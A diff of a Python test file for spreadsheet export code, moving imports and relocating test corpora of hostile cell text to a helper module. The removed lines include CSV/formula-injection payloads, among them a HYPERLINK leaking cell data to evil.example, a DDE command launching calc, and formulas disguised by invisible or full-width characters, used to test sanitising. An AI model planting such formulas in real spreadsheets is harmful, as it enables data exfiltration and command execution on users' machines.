@@ -13,73 +13,24 @@ from lxml import etree
 from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-from roam.workbooks.cells import (
+from roam.workbooks.inert_cells import (
     MAX_CELL_CHARS,
     TRUNCATION_MARKER,
     cell_text,
     clean_text,
     is_formula_like,
     put,
-    safe_sheet_title,
-    sheet_reference,
     text_from_cell,
 )
+from roam.workbooks.sheet_names import safe_sheet_title, sheet_reference
 from roam.workbooks.styles import TEXT, install_styles
-
-# Text a team might type (or an attacker might plant) that a spreadsheet could run, either
-# at once or once the sheet is saved as CSV and reopened.
-FORMULA_CORPUS = [
-    "=1+1",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "=",
-    "-",
-    "+33 1 23 45 67 89",
-    "-- see the annex",
-    "@liaison please check",
-    "=1+1\nsecond line",
-    "'=1+1",  # an apostrophe typed before a formula: marked again, so it comes back whole
-]
-# What a spreadsheet skips or folds before reading a formula, or what a cell loses: each of
-# these in front of a formula once reached the sheet as a bare formula, without a prefix.
-HIDDEN_STARTS = [
-    "\x07",  # bell: removed from the cell, which then starts with "="
-    "\x1b",  # escape: the same
-    "\ufffe",  # a non-character: the same
-    "\x85",  # NEL, a C1 control
-    "\n",  # leading line feed
-    "\n\r\t ",  # a run of them
-    "\u00a0",  # no-break space
-    "\u3000",  # ideographic space
-    "\u200b",  # zero-width space
-    "\u200d\u2060",  # zero-width joiner, word joiner
-    "\ufeff",  # byte-order mark
-    "\u202e",  # right-to-left override
-    "\u00ad",  # soft hyphen
-]
-FULL_WIDTH = ["\uff1dHYPERLINK(A1)", "\uff0b1+1", "\uff0d2+3", "\uff20SUM(A1)", "\u22121+1"]
-HIDDEN_CORPUS = [f'{start}=HYPERLINK("http://evil.example")' for start in HIDDEN_STARTS]
-# Text that no spreadsheet reads as a formula: stored exactly as typed.
-PLAIN_CORPUS = ["plain", "a = b", "e-mail", "  indented", "'quoted'", "2+2", "\u00a0no", "x=1"]
-# Control characters Excel refuses, with what must remain of them (worked out by hand:
-# tab, line feed and carriage return are allowed, every other C0 control is removed).
-CONTROL_CORPUS = [
-    ("a\x00b", "ab"),
-    ("bell\x07", "bell"),
-    ("\x1b[31mred", "[31mred"),
-    ("form\x0cfeed", "formfeed"),
-    ("vertical\x0btab", "verticaltab"),
-    ("\x01\x02\x03x", "x"),
-    ("keeps\ttab\nand newline", "keeps\ttab\nand newline"),
-    ("non\ufffecharacters\uffff", "noncharacters"),
-    ("more\ufdd0non\U0001fffechar\U0010ffffacters", "morenoncharacters"),
-    ("c1\x85\x9bcontrols\x7f", "c1controls"),
-]
+from tests.helpers.hostile_text import (
+    CONTROL_CORPUS,
+    FORMULA_CORPUS,
+    FULL_WIDTH,
+    HIDDEN_CORPUS,
+    PLAIN_CORPUS,
+)
 
 
 def _round_trip(tmp_path: Path, values: list[str], styled: bool) -> tuple[Path, list[object]]:
